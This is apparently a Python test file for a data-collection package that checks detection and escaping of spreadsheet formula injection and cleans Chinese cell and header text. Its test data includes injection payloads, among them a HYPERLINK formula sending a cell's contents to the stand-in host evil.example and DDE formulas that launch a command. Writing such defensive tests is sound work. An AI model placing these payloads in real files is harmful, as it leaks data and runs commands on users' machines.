import pytest
from hypothesis import given
from hypothesis import strategies as st

from pubcredit.collection.parsers import escape_for_spreadsheet, looks_like_formula
from pubcredit.collection.parsers.cells import clean_cell, clean_header


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "+HYPERLINK(1)",
        "-2+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
    ],
)
def test_formulas_are_recognised(value):
    assert looks_like_formula(value)


@pytest.mark.parametrize(
    "value", ["-12.5", "+86", "-1,234.50", "2024-05-01", "-", "公司=甲", "甲@乙", "-无", "1e-5", ""]
)
def test_ordinary_values_are_not_formulas(value):
    assert not looks_like_formula(value)


def test_escape_for_spreadsheet_prefixes_apostrophe():
    assert escape_for_spreadsheet("=cmd|x") == "'=cmd|x"
    assert escape_for_spreadsheet("@A1") == "'@A1"
    assert escape_for_spreadsheet("\t=1") == "'\t=1"
    assert escape_for_spreadsheet("甲公司") == "甲公司"
    assert escape_for_spreadsheet("") == ""


@given(st.text())
def test_escaped_values_are_never_formulas(value):
    escaped = escape_for_spreadsheet(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert escaped.endswith(value)


def test_clean_cell_strips_full_width_and_zero_width_spaces():
    assert clean_cell("\u3000 甲公司\u3000\ufeff") == "甲公司"
    assert clean_cell("\u200b统一\u3000代码 ") == "统一\u3000代码"


def test_clean_header_applies_nfkc():
    assert clean_header("\u3000ＣＦ＿ＷＳＨ ") == "CF_WSH"
    assert clean_header("罚款金额（万元）") == "罚款金额(万元)"
